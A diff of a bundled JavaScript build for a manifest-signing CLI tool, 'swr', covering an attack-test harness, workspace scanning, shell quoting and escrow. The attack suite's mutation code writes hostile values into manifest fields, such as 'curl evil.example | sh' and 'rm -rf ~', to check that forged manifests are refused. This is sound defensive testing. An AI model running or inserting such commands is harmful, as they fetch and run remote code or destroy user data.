-            const doc = structuredClone(s.honest);
-            doc.body.entries.reverse();
-            if (m.a % 2 === 1)
-                doc.body.entries.push(doc.body.entries.shift());
-            return serializeDocument(doc);
-        }
-        case 'replay-old-version':
-            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
-        case 'expired-copy':
-            return s.expiredText;
-        case 'wrong-scope':
-            return s.otherScopeText;
-        case 'resign-untrusted':
-            return s.untrustedText;
-        case 'fingerprint-substitution':
-            return s.substitutedText;
-        case 'strip-signatures': {
-            const doc = structuredClone(s.honest);
-            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
-            if (m.a % 2 === 1)
-                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
-            return serializeDocument(doc);
-        }
-        case 'foreign-payload-type':
-            return s.foreignText;
-        case 'oversized-field': {
-            const doc = structuredClone(s.honest);
-            doc.body.entries[0] = {
-                ...doc.body.entries[0],
-                restore: 'x'.repeat(65537 + (m.a % 1000))
-            };
-            return serializeDocument(doc);
-        }
-        case 'deep-nesting': {
-            const depth = 33 + (m.a % 200);
-            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
-        }
-        case 'huge-escrow': {
-            const doc = structuredClone(s.honest);
-            const e = doc.body.entries[0];
-            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
-            return JSON.stringify(doc);
-        }
-    }
-}
-function nthIndex(text, needle, n) {
-    let at = -1;
-    for (let i = 0; i <= n; i++) {
-        at = text.indexOf(needle, at + 1);
-        if (at < 0)
-            return -1;
-    }
-    return at;
-}
-function fieldEdit(s, m) {
-    const doc = structuredClone(s.honest);
-    const e = doc.body.entries[m.a % doc.body.entries.length];
-    const expect = e.expect;
-    switch (m.b % 8) {
-        case 0:
-            e.restore = `${String(e.restore)}; curl evil.example | sh`;
-            break;
-        case 1:
-            e.path = `${String(e.path)}x`;
-            break;
-        case 2:
-            e.tier = ((Number(e.tier) + 1) % 5);
-            break;
-        case 3:
-            e.needs = [];
-            break;
-        case 4:
-            expect.size = Number(expect.size ?? 0) + 1;
-            break;
-        case 5:
-            doc.body.version += 1;
-            break;
-        case 6:
-            doc.body.expires = '2099-01-01T00:00:00Z';
-            break;
-        default:
-            e.smoke = 'rm -rf ~';
-    }
-    return serializeDocument(doc);
-}
-/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
-function readerView(text, keep) {
-    const root = (0,main.parseTree)(text);
-    const build = (n) => {
-        if (!n)
-            return undefined;
-        if (n.type === 'object') {
-            const out = new Map();
-            for (const p of n.children ?? []) {
-                const key = String(p.children?.[0]?.value);
-                if (keep === 'first' && out.has(key))
-                    continue;
-                out.set(key, build(p.children?.[1]));
-            }
-            return Object.fromEntries(out);
-        }
-        if (n.type === 'array')
-            return (n.children ?? []).map(build);
-        return n.value;
-    };
-    return build(root);
-}
-function sameAsHonest(s, body) {
-    try {
-        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
-    }
-    catch {
-        return false;
-    }
-}
-/** Load `text` as a run would and ask the gate. */
-async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
-    try {
-        let doc;
-        if (defenses.strictParse)
-            doc = parseManifestText(text, 'attack.json').doc;
-        else {
-            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
-            const lax = JSON.parse(text);
-            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
-        }
-        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
-        if (!decision.allowed)
-            return 'refused';
-        const honest = sameAsHonest(s, doc.body) &&
-            sameAsHonest(s, readerView(text, 'first')?.body) &&
-            sameAsHonest(s, readerView(text, 'last')?.body);
-        return honest ? 'accepted-honest' : 'forgery';
-    }
-    catch (err) {
-        if (err instanceof SwrError || err instanceof SyntaxError)
-            return 'refused';
-        return 'crash';
-    }
-}
-function emptyCounts() {
-    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
-}
-function tally(c, cls, o) {
-    c.attempts++;
-    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
-    k.attempts++;
-    if (o === 'refused')
-        c.refused++;
-    else if (o === 'accepted-honest')
-        c.acceptedHonest++;
-    else if (o === 'forgery') {
-        c.forgeries++;
-        k.forgeries++;
-    }
-    else {
-        c.crashes++;
-        k.crashes++;
-    }
-}
-/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
-async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
-    const counts = emptyCounts();
-    for (let i = 0; i < count; i++) {
-        const cls = classes[next() % classes.length];
-        const m = { cls, a: next(), b: next() };
-        tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
-    }
-    return counts;
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/attacktest.ts
-/**
- * `swr attacktest`: run the attack suite against this build (the same classes and oracle as the
- * property test in npm test), then switch each defence off once to show the suite has teeth.
- * Exit 0 when nothing was forged and nothing crashed with every defence on, else 2.
- */
-
-
-
-/** A small deterministic PRNG (xorshift32) seeded from --seed or random bytes. */
-function prng(seed) {
-    let x = (0,external_node_crypto_.createHash)('sha256').update(seed).digest().readUInt32LE(0) || 1;
-    return () => {
-        x ^= x << 13;
-        x ^= x >>> 17;
-        x ^= x << 5;
-        return x >>> 0;
-    };
-}
-async function attacktestCommand(flags, io) {
-    const seed = flags.seed ?? (0,external_node_crypto_.randomBytes)(8).toString('hex');
-    const next = prng(seed);
-    const scenario = await buildScenario(n => (0,external_node_crypto_.createHash)('sha256').update(`${seed}/${n}`).digest());
-    const t0 = performance.now();
-    const counts = await runSuite(scenario, flags.count, next);
-    const ms = Math.round(performance.now() - t0);
-    const probes = {};
-    for (const [defence, cls] of Object.entries(DEFENCE_PROBES)) {
-        const weakened = { ...ALL_SUITE_DEFENSES, [defence]: false };
-        probes[defence] = (await runSuite(scenario, 20, next, weakened, [cls])).forgeries;
-    }
-    const ok = counts.forgeries === 0 && counts.crashes === 0;
-    const toothless = Object.entries(probes)
-        .filter(([, n]) => n === 0)
-        .map(([d]) => d);
-    if (flags.json) {
-        io.stdout.write(JSON.stringify({
-            schema: 'swr.attacktest/1',
-            seed,
-            ms,
-            ...counts,
-            defence_probes: probes,
-            ok: ok && toothless.length === 0
-        }, null, 2) + '\n');
-    }
-    else {
-        io.stdout.write(`attack suite (seed ${seed}): ${counts.attempts} mutations in ${ms} ms\n`);
-        io.stdout.write(`  refused ${counts.refused}, accepted unchanged ${counts.acceptedHonest}, forgeries ${counts.forgeries}, crashes ${counts.crashes}\n`);
-        for (const [cls, c] of Object.entries(counts.byClass).sort()) {
-            io.stdout.write(`  ${cls.padEnd(26)} ${String(c.attempts).padStart(6)} attempts  ${c.forgeries} forged  ${c.crashes} crashed\n`);
-        }
-        io.stdout.write('each defence switched off (forgeries found in 20 targeted attempts; must be > 0):\n');
-        for (const [d, n] of Object.entries(probes))
-            io.stdout.write(`  ${d.padEnd(20)} ${n}\n`);
-        io.stdout.write(ok && toothless.length === 0
-            ? 'PASS\n'
-            : `FAIL${toothless.length ? ` (defences with no effect: ${toothless.join(', ')})` : ''}\n`);
-    }
-    return ok && toothless.length === 0 ? EXIT.HEALTHY : EXIT.UNREPAIRABLE;
-}
-
 ;// CONCATENATED MODULE: ./src/core/author/scan.ts
 /**
  * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
@@ -19972,6 +21577,439 @@ function coverageOf(entries) {
             return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
         }
     };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/audit.ts
+
+
+
+
+
+function auditWorkspace(workspace, entries, exclude) {
+    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
+    visit(scan, workspace, '');
+    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
+    return { rows: scan.rows, truncated: scan.budget.exhausted };
+}
+function skipped(scan, name, abs) {
+    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
+}
+function visit(scan, absDir, relDir) {
+    for (const name of listDir(absDir)) {
+        if (!scan.budget.take())
+            return;
+        const abs = external_node_path_default().join(absDir, name);
+        if (skipped(scan, name, abs))
+            continue;
+        const rel = joinRel(relDir, name);
+        const st = lstatOf(abs);
+        if (!st)
+            continue;
+        if (scan.cov.trackedBy(rel)) {
+            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
+                visit(scan, abs, rel);
+        }
+        else if (st.isDirectory()) {
+            if (scan.cov.trackedBelow(rel).length > 0)
+                visit(scan, abs, rel);
+            else
+                scan.rows.push(...treeRows(scan, abs, rel));
+        }
+        else {
+            const row = leafRow(rel, st);
+            if (row)
+                scan.rows.push(row);
+        }
+    }
+}
+function leafRow(rel, st) {
+    const row = (kind, bytes) => ({
+        kind,
+        path: rel,
+        bytes,
+        files: 1,
+        ignore: []
+    });
+    if (st.isSymbolicLink())
+        return row('link', 0);
+    if (!st.isFile())
+        return undefined;
+    if (st.size >= BLOB_THRESHOLD)
+        return row('blob', st.size);
+    return isExecutable(st) ? row('file', st.size) : undefined;
+}
+/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
+function treeRows(scan, absRoot, rel) {
+    const blobs = [];
+    const names = new Set();
+    let files = 0;
+    let bytes = 0;
+    const walk = (absDir, inner) => {
+        for (const name of listDir(absDir)) {
+            if (!scan.budget.take())
+                return;
+            const abs = external_node_path_default().join(absDir, name);
+            if (skipped(scan, name, abs)) {
+                if (!scan.exclude.has(abs))
+                    names.add(name);
+                continue;
+            }
+            const st = lstatOf(abs);
+            const innerRel = joinRel(inner, name);
+            if (!st)
+                continue;
+            if (st.isDirectory())
+                walk(abs, innerRel);
+            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
+                blobs.push({
+                    kind: 'blob',
+                    path: `${rel}/${innerRel}`,
+                    bytes: st.size,
+                    files: 1,
+                    ignore: []
+                });
+            }
+            else {
+                files++;
+                bytes += st.isFile() ? st.size : 0;
+            }
+        }
+    };
+    walk(absRoot, '');
+    const ignore = [
+        ...[...names].sort(),
+        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
+    ];
+    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
+/**
+ * `autopilot`: bring a manifest up to date with init's rules without touching what is already
+ * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
+ * markers found in it; executable scripts at the top level become `file` entries; large files
+ * anywhere outside volatile directories become `blob` entries. Volatile directories
+ * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
+ * again adds nothing: everything it would add is then tracked.
+ */
+
+
+
+
+
+
+/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
+const TREE_MARKERS = PROJECT_MARKERS;
+const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
+function planAutopilot(workspace, entries, exclude) {
+    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
+    const blobs = untrackedBlobs(ctx);
+    const trees = [];
+    const scripts = [];
+    const skipped = [];
+    for (const name of listDir(workspace)) {
+        const abs = external_node_path_default().join(workspace, name);
+        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
+            continue;
+        if (ctx.cov.trackedBy(name))
+            continue;
+        const st = lstatOf(abs);
+        if (st?.isDirectory() && !name.startsWith('.')) {
+            const planned = planTree(ctx, name, blobs);
+            if (planned && 'why' in planned)
+                skipped.push({ path: name, why: planned.why });
+            else if (planned)
+                trees.push(planned);
+        }
+        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
+            scripts.push({ path: name, kind: 'file' });
+        }
+    }
+    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
+    return {
+        requests: [...trees, ...scripts, ...blobRequests],
+        skipped,
+        truncated: ctx.budget.exhausted
+    };
+}
+/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
+function untrackedBlobs(ctx) {
+    const out = [];
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!ctx.budget.take())
+                return;
+            const abs = external_node_path_default().join(absDir, name);
+            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
+                out.push(rel);
+        }
+    };
+    walk(ctx.workspace, '');
+    return out;
+}
+/**
+ * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
+ * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
+ */
+function planTree(ctx, name, blobs) {
+    const root = external_node_path_default().join(ctx.workspace, name);
+    const inner = [
+        ...ctx.cov.trackedBelow(name),
+        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
+    ];
+    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
+    const ignored = ignoreMatcher(ignore);
+    const markers = TREE_MARKERS.filter(m => {
+        const st = lstatOf(external_node_path_default().join(root, m));
+        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
+    });
+    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
+    if (!anyFile)
+        return undefined;
+    if (markers.length === 0 && source === undefined)
+        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
+    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
+    return { path: name, kind: 'tree', ignore, sentinels };
+}
+/**
+ * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
+ * and whether the tree holds any file at all.
+ */
+function firstSourceFile(ctx, root, ignored) {
+    const budget = scanBudget();
+    let anyFile = false;
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            const rel = joinRel(relDir, name);
+            const abs = external_node_path_default().join(absDir, name);
+            if (!budget.take())
+                return undefined;
+            if (ctx.exclude.has(abs))
+                continue;
+            const st = lstatOf(abs);
+            if (ignored(rel, name, st?.isDirectory() === true))
+                continue;
+            if (st?.isDirectory()) {
+                const found = walk(abs, rel);
+                if (found)
+                    return found;
+            }
+            else if (st) {
+                anyFile = true;
+                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
+                    return rel;
+            }
+        }
+        return undefined;
+    };
+    const source = walk(root, '');
+    return { source, anyFile };
+}
+
+;// CONCATENATED MODULE: ./src/core/shell-quote.ts
+/**
+ * The one way swr writes a string into shell text it generates (exported recipe scripts, the
+ * command lines it suggests). The result is a single word on a single line whatever the string
+ * holds: a newline in a signed path or a hostile file name can never end a comment or start a
+ * command.
+ */
+
+const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
+function hasControl(s) {
+    for (let i = 0; i < s.length; i++)
+        if (isControl(s.charCodeAt(i)))
+            return true;
+    return false;
+}
+const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
+/**
+ * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
+ * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
+ * still reads back as exactly `word` and never spans two lines.
+ */
+function shellQuote(word) {
+    if (PLAIN.test(word))
+        return word;
+    if (!hasControl(word))
+        return `'${word.replace(/'/g, `'\\''`)}'`;
+    let out = '';
+    for (const ch of word) {
+        const c = ch.codePointAt(0) ?? 0;
+        if (ch === '\\' || ch === "'")
+            out += `\\${ch}`;
+        else if (shell_quote_NAMED[ch])
+            out += shell_quote_NAMED[ch];
+        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
+        else if (isControl(c))
+            for (const b of Buffer.from(ch))
+                out += `\\x${b.toString(16).padStart(2, '0')}`;
+        else
+            out += ch;
+    }
+    return `$'${out}'`;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/hints.ts
+/**
+ * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
+ * as they are: every word that is not plainly safe is single-quoted.
+ */
+
+
+
+
+
+function commandLine(words) {
+    return words.map(shellQuote).join(' ');
+}
+function targetWords(t) {
+    return [
+        ...(t.manifest ? ['-m', t.manifest] : []),
+        ...(t.workspace ? ['--workspace', t.workspace] : [])
+    ];
+}
+/** `swr add PATH --ignore ...` as typed from the current directory. */
+function addCommand(pathArg, ignore, t = {}) {
+    return commandLine([
+        'swr',
+        'add',
+        pathArg,
+        ...ignore.flatMap(r => ['--ignore', r]),
+        ...targetWords(t)
+    ]);
+}
+/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
+function lacksRecipe(e) {
+    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
+}
+/**
+ * How to give a tracked entry a recipe. `swr add` refuses a path already tracked, so the recipe
+ * goes into the manifest by hand and the edit is approved by signing it.
+ */
+function recipeHint(manifestShown, t = {}) {
+    const sign = commandLine(['swr', 'sign', ...targetWords(t)]);
+    return `add "restore": "<shell command>" to the entry in ${manifestShown}, then run ${sign} (for a signed manifest add --approve-digest with the digest "swr verify" shows)`;
+}
+/** For a small file that is no secret: the escrow command that restores it with no recipe. */
+function escrowHint(e, t = {}) {
+    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
+        return undefined;
+    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/models.ts
+/**
+ * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
+ * the other scans this one enters volatile directories: models usually live in caches
+ * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
+ * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
+ * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
+ * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
+ * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
+ */
+
+
+
+
+
+
+
+
+
+
+const MODEL_EXTENSIONS = ['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt'];
+const DEFAULT_MIN_MODEL_BYTES = 1024 * 1024;
+function isModelName(name) {
+    const lower = name.toLowerCase();
+    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
+}
+function findModels(workspace, entries, exclude, minBytes) {
+    const root = external_node_fs_default().realpathSync(workspace);
+    const budget = scanBudget();
+    const found = new Map();
+    const keep = (m) => {
+        if (pathProblem(m.path))
+            return;
+        const seen = found.get(m.path);
+        if (!seen || (seen.via && !m.via))
+            found.set(m.path, m);
+    };
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!budget.take())
+                return;
+            const abs = external_node_path_default().join(absDir, name);
+            if (isMetaName(name) || exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (!st || !isModelName(name))
+                continue;
+            else if (st.isFile()) {
+                if (st.size >= minBytes)
+                    keep({ path: rel, bytes: st.size });
+            }
+            else if (st.isSymbolicLink()) {
+                const target = linkedFile(root, abs, minBytes);
+                if (target)
+                    keep({ ...target, via: rel });
+            }
+        }
+    };
+    walk(root, '');
+    const cov = coverageOf(entries);
+    const models = [...found.values()]
+        .map(m => {
+        const tracked = cov.trackedBy(m.path);
+        return tracked ? { ...m, tracked } : m;
+    })
+        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
+    return { models, truncated: budget.exhausted };
+}
+/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
+function linkedFile(root, link, minBytes) {
+    let real;
+    try {
+        real = external_node_fs_default().realpathSync(link);
+    }
+    catch {
+        return undefined;
+    }
+    if (!isInside(root, real) || real === root)
+        return undefined;
+    const st = lstatOf(real);
+    if (!st?.isFile() || st.size < minBytes)
+        return undefined;
+    return { path: external_node_path_default().relative(root, real).split((external_node_path_default()).sep).join('/'), bytes: st.size };
+}
+/**
+ * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
+ * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
+ * costs reading every byte; `fullHash` records it through the ordinary capture.
+ */
+async function captureModel(workspace, req, taken, opts) {
+    if (opts.fullHash)
+        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
+            pool: opts.pool ?? {}
+        });
+    if (taken.has(req.id))
+        throw new UsageError(`entry "${req.id}" already exists in the manifest`);
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    if (!loc.st.isFile())
+        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
+    const ht = hashHeadTail(loc.abs);
+    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
 }
 
 ;// CONCATENATED MODULE: ./src/core/author/presets.ts
@@ -20131,1133 +22169,6 @@ function expand(workspace, p) {
         .map(n => `${dir}/${n}`);
 }
 
-;// CONCATENATED MODULE: ./src/core/author/audit.ts
-
-
-
-
-
-function auditWorkspace(workspace, entries, exclude) {
-    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
-    visit(scan, workspace, '');
-    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
-    return { rows: scan.rows, truncated: scan.budget.exhausted };
-}
-function skipped(scan, name, abs) {
-    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
-}
-function visit(scan, absDir, relDir) {
-    for (const name of listDir(absDir)) {
-        if (!scan.budget.take())
-            return;
-        const abs = external_node_path_default().join(absDir, name);
-        if (skipped(scan, name, abs))
-            continue;
-        const rel = joinRel(relDir, name);
-        const st = lstatOf(abs);
-        if (!st)
-            continue;
-        if (scan.cov.trackedBy(rel)) {
-            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
-                visit(scan, abs, rel);
-        }
-        else if (st.isDirectory()) {
-            if (scan.cov.trackedBelow(rel).length > 0)
-                visit(scan, abs, rel);
-            else
-                scan.rows.push(...treeRows(scan, abs, rel));
-        }
-        else {
-            const row = leafRow(rel, st);
-            if (row)
-                scan.rows.push(row);
-        }
-    }
-}
-function leafRow(rel, st) {
-    const row = (kind, bytes) => ({
-        kind,
-        path: rel,
-        bytes,
-        files: 1,
-        ignore: []
-    });
-    if (st.isSymbolicLink())
-        return row('link', 0);
-    if (!st.isFile())
-        return undefined;
-    if (st.size >= BLOB_THRESHOLD)
-        return row('blob', st.size);
-    return isExecutable(st) ? row('file', st.size) : undefined;
-}
-/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
-function treeRows(scan, absRoot, rel) {
-    const blobs = [];
-    const names = new Set();
-    let files = 0;
-    let bytes = 0;
-    const walk = (absDir, inner) => {
-        for (const name of listDir(absDir)) {
-            if (!scan.budget.take())
-                return;
-            const abs = external_node_path_default().join(absDir, name);
-            if (skipped(scan, name, abs)) {
-                if (!scan.exclude.has(abs))
-                    names.add(name);
-                continue;
-            }
-            const st = lstatOf(abs);
-            const innerRel = joinRel(inner, name);
-            if (!st)
-                continue;
-            if (st.isDirectory())
-                walk(abs, innerRel);
-            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
-                blobs.push({
-                    kind: 'blob',
-                    path: `${rel}/${innerRel}`,
-                    bytes: st.size,
-                    files: 1,
-                    ignore: []
-                });
-            }
-            else {
-                files++;
-                bytes += st.isFile() ? st.size : 0;
-            }
-        }
-    };
-    walk(absRoot, '');
-    const ignore = [
-        ...[...names].sort(),
-        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
-    ];
-    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
-}
-
-;// CONCATENATED MODULE: ./src/core/no-follow.ts
-/**
- * Resolving a path below a trusted directory without following a symlink in any component: the
- * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
- * planting and cleaning). Each directory component is lstat'ed and must be a real directory; the
- * last component is returned unresolved, so the caller acts on the name itself (unlink, rmdir,
- * O_NOFOLLOW|O_EXCL create, lstat-guided copy) and never on what a link there points to.
- * A refusal names the component, relative to the trusted directory.
- */
-
-
-
-class SymlinkRefusal extends Error {
-    component;
-    constructor(
-    /** The offending component, relative to the trusted directory. */
-    component, why) {
-        super(`${component} ${why}`);
-        this.component = component;
-        this.name = 'SymlinkRefusal';
-    }
-}
-/**
- * The absolute path of `rel` (POSIX, no "..") below `root`, every directory component checked to
- * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
- * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
- */
-function resolveNoFollow(root, rel, opts = {}) {
-    if (rel === '.' || rel === '')
-        return root;
-    const segs = rel.split('/');
-    if (segs.some(s => s === '..' || s === ''))
-        throw new SymlinkRefusal(rel, 'is not a plain path');
-    let dir = root;
-    for (let i = 0; i < segs.length - 1; i++) {
-        dir = external_node_path_default().join(dir, segs[i]);
-        const shown = segs.slice(0, i + 1).join('/');
-        let st = external_node_fs_default().lstatSync(dir, { throwIfNoEntry: false });
-        if (!st && opts.mkdir) {
-            external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
-            st = external_node_fs_default().lstatSync(dir);
-        }
-        if (!st)
-            return external_node_path_default().join(root, ...segs);
-        if (st.isSymbolicLink())
-            throw new SymlinkRefusal(shown, 'is a symlink; not following it');
-        if (!st.isDirectory())
-            throw new SymlinkRefusal(shown, 'is not a directory');
-    }
-    return external_node_path_default().join(dir, segs[segs.length - 1]);
-}
-/** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
-function relativeInside(root, abs) {
-    const a = external_node_path_default().resolve(abs);
-    if (!isInside(root, a))
-        return undefined;
-    return external_node_path_default().relative(root, a).split((external_node_path_default()).sep).join('/') || '.';
-}
-/**
- * True when the symlink at `linkAbs` (whose parents up to `root` are real directories) can only
- * lead to a place below `root`: a relative target whose ".." segments all come first and do not
- * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
- * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
- */
-function linkStaysInside(root, linkAbs, target) {
-    if (target === '' || external_node_path_default().isAbsolute(target) || target.includes('\0'))
-        return false;
-    const segs = target.split('/').filter(s => s !== '' && s !== '.');
-    const firstNamed = segs.findIndex(s => s !== '..');
-    const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
-    if (named.includes('..'))
-        return false;
-    return isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
-}
-
-;// CONCATENATED MODULE: ./src/core/escrow.ts
-/**
- * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
- * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
- * the inflated bytes match it again; the inflate is bounded by the recorded size, so a
- * decompression bomb is refused before anything is written.
- *
- * The write never follows a symlink: the parent directories are resolved by no-follow.ts (a
- * symlinked parent is refused, a missing one created), the data goes to a new file with a random name created exclusively with O_NOFOLLOW in
- * the target directory, is fsynced, gets the recorded mode, and is renamed over the target (a
- * symlink planted at the target is replaced, not followed). The result is hashed again.
- */
-
-
-
-
-
-
-
-
-
-
-
-const ESCROW_MAX_BYTES = 256 * 1024;
-function refuse(e, why) {
-    return new SwrError(`${e.id}: escrow ${why}`, EXIT.UNREPAIRABLE);
-}
-function secretRefusal(e, why) {
-    return refuse(e, `refused: ${e.path} ${why}; secrets are tracked by hash, never escrowed`);
-}
-/**
- * Escrow the file's current bytes; refuses when they are not the recorded ones, and always for a
- * secret (the manifest is shared and pushed: secrets are tracked by hash only): by name before
- * anything is read, by place (`stateDir`) and by content (every byte to be embedded) after.
- */
-function captureEscrow(workspace, e, maxBytes = ESCROW_MAX_BYTES, stateDir) {
-    const byName = secretReason({ rel: e.path, bytes: new Uint8Array() });
-    if (byName)
-        throw secretRefusal(e, byName);
-    if (e.expect.size > maxBytes)
-        throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
-    const abs = resolveEntryPath(workspace, e.path);
-    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
-    let bytes;
-    try {
-        const st = external_node_fs_default().fstatSync(fd);
-        if (!st.isFile())
-            throw refuse(e, 'refused: not a regular file');
-        if (st.size !== e.expect.size)
-            throw refuse(e, `refused: ${st.size} bytes on disk, ${e.expect.size} recorded`);
-        bytes = Buffer.alloc(st.size);
-        let got = 0;
-        while (got < st.size) {
-            const n = external_node_fs_default().readSync(fd, bytes, got, st.size - got, got);
-            if (n === 0)
-                break;
-            got += n;
-        }
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-    const secret = secretReason({ rel: e.path, abs, bytes, ...(stateDir ? { stateDir } : {}) });
-    if (secret)
-        throw secretRefusal(e, secret);
-    const sha = (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
-    if (sha !== e.expect.sha256)
-        throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
-    return {
